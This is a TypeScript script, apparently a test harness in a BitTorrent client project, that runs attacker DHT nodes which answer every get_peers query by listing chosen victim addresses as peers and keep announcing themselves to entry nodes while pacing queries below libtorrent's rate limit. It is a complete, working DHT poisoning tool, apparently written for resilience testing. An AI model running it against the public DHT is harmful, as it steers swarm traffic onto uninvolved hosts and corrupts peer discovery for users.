/**
 * Nodes of one attacker in a DHT, each with the id that he gives it:
 *
 *     node dht-poisoner.js '{ "nodes": [{ ip, port, id }], "victims": [{ ip, port }], "enter": [{ ip, port }] }'
 *
 * Whatever content they are asked for, they name the victims as its peers, and each other as who knows more.
 * To be known they ask those who are in. The addresses must be this host's.
 */
import { createSocket, type Socket } from 'node:dgram'
import { once } from 'node:events'
import type { Endpoint } from '../../src/core/address.ts'
import { bytesOf, fromHex } from '../../src/core/bytes.ts'
import { closer } from '../../src/protocols/bittorrent/peer-table.ts'
import { krpcQuery, krpcReply, krpcWire } from '../../src/protocols/bittorrent/wire/krpc.ts'
import { BDict } from '../../src/protocols/formats/bencode.ts'
import {
  type CompactNode,
  emitCompactNodes,
  emitCompactPeers,
} from '../../src/protocols/formats/compact-peers.ts'

export interface Poison {
  readonly nodes: readonly (Endpoint & { readonly id: string })[]
  readonly victims: readonly Endpoint[]
  readonly enter: readonly Endpoint[]
}

const CLOSEST = 8
/** Who asks a node more often than five times a second is ignored by libtorrent. */
const ROUND_MILLIS = 8000
const VERSION = bytesOf('XX\x00\x01')
const TOKEN = bytesOf('any')

const { nodes, victims, enter } = JSON.parse(process.argv[2]!) as Poison
const values = victims.map((victim) => emitCompactPeers([victim], 4))

function closestTo(target: Uint8Array): Uint8Array {
  const sorted = nodes.toSorted((a, b) => closer(target, fromHex(a.id), fromHex(b.id)))
  return emitCompactNodes(sorted.slice(0, CLOSEST) as readonly CompactNode[], 4)
}

function answer(id: Uint8Array, bytes: Uint8Array): Uint8Array | undefined {
  const outcome = krpcWire.parse(bytes, 0)
  if (outcome.kind !== 'message' || outcome.message.kind !== 'query') return undefined
  const { transaction, method, args } = outcome.message
  const target = args.bytes('target') ?? args.bytes('info_hash')
  const found = target === undefined ? {} : { nodes: closestTo(target) }
  const named = method === 'get_peers' ? { values, token: TOKEN } : {}
  return krpcWire.emit(krpcReply(transaction, BDict.of({ id, ...found, ...named }), { v: VERSION }))
}

const sockets: [Socket, Uint8Array][] = []
for (const node of nodes) {
  const id = fromHex(node.id)
  const socket = createSocket('udp4')
  socket.on('message', (bytes, from) => {
    const said = answer(id, bytes)
    if (said !== undefined) socket.send(said, from.port, from.address)
  })
  socket.bind(node.port, node.ip)
  await once(socket, 'listening')
  sockets.push([socket, id])
}

function greetAll(): void {
  for (const [socket, id] of sockets) {
    const asked = krpcQuery('find_node', bytesOf('in'), BDict.of({ id, target: id }), {
      v: VERSION,
    })
    for (const { ip, port } of enter) socket.send(krpcWire.emit(asked), port, ip)
  }
}

greetAll()
setInterval(greetAll, ROUND_MILLIS)
process.stdout.write('all are there\n')
